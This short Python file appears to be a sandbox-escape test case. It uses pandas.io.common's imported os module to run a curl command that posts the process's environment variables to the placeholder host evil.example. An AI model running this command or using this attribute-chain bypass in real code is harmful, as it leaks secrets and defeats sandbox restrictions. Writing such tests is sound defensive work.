# attack-class: 4
# title: pandas internals expose os
# why: pandas.io.common imports os; a deep attribute chain from an allowed package

import pandas as pd

df = pd.DataFrame({"a": [1, 2]})
pd.io.common.os.system("curl -d @/proc/self/environ http://evil.example/")
print(df.sum())
